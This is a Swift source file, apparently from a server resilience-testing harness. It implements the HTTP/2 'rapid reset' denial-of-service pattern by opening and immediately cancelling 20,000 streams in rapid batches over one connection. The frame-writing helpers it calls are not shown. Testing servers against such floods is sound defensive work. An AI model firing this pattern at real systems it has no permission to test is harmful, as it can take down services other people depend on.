import NIOCore

/// Streams that are cancelled as soon as they are open, as in HTTP/2's rapid reset.
struct RapidReset: Attack {
  let name = "rapid reset"

  func attack(_ target: Target) async throws {
    try await target.withConnection { connection in
      var opening = ByteBuffer()
      opening.writeAgreement(window: 262_144)
      try await connection.send(opening)
      var stream: UInt32 = 3
      for _ in 0 ..< 200 {
        var frames = ByteBuffer()
        for _ in 0 ..< 100 {
          frames.writeGenerate(stream: stream)
          frames.writeCancel(stream: stream)
          stream += 2
        }
        try await connection.send(frames)
        try await Task.sleep(for: .milliseconds(5))
      }
    }
  }
}
